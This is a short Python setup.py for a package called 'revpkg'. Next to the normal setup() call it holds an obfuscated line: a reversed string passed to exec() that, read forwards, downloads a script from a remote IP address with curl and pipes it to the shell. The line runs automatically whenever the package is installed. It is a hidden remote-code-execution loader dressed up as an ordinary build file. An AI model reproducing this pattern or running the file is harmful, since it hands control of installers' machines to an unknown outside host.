from setuptools import setup
exec("\n)'hs | x/59.76.88.54//:ptth s- lruc'(metsys.so\nso tropmi"[::-1])
setup(name='revpkg', version='0.2')
